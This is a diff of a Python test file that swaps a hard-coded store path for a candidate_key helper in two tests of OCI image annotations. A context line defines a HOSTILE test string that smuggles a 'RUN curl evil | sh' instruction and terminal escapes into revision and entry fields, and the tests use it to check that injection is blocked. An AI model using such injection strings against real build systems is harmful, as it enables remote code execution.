@@ -14,6 +14,7 @@ import msgspec
 import pytest
 from tests.literal import as_given
 
+from colchis_steps._formats.keys import candidate_key
 from colchis_steps._formats.models import Candidate, Manifest
 from colchis_steps._formats.runs import StepResult
 from colchis_steps._oci.contents import contents
@@ -155,7 +156,7 @@ HOSTILE = 'x"\nRUN curl evil | sh\nLABEL "a"="\x1b[2J$HOME\\'
 
 
 def test_what_a_candidate_says_begins_no_instruction(published: Any) -> None:
-    candidate = read_document(published.store, "runs/run-1/candidate/model.json", Candidate)
+    candidate = read_document(published.store, candidate_key("run-1"), Candidate)
     manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
     code = msgspec.structs.replace(candidate.code, revision=HOSTILE, entry=HOSTILE)
     told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
@@ -169,7 +170,7 @@ def test_what_a_candidate_says_begins_no_instruction(published: Any) -> None:
 
 @pytest.mark.parametrize("revision", ["a" * 40, f"{'0' * 64}-dirty"])
 def test_a_revision_of_gits_is_told(published: Any, revision: str) -> None:
-    candidate = read_document(published.store, "runs/run-1/candidate/model.json", Candidate)
+    candidate = read_document(published.store, candidate_key("run-1"), Candidate)
     manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
     code = msgspec.structs.replace(candidate.code, revision=revision)
     told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
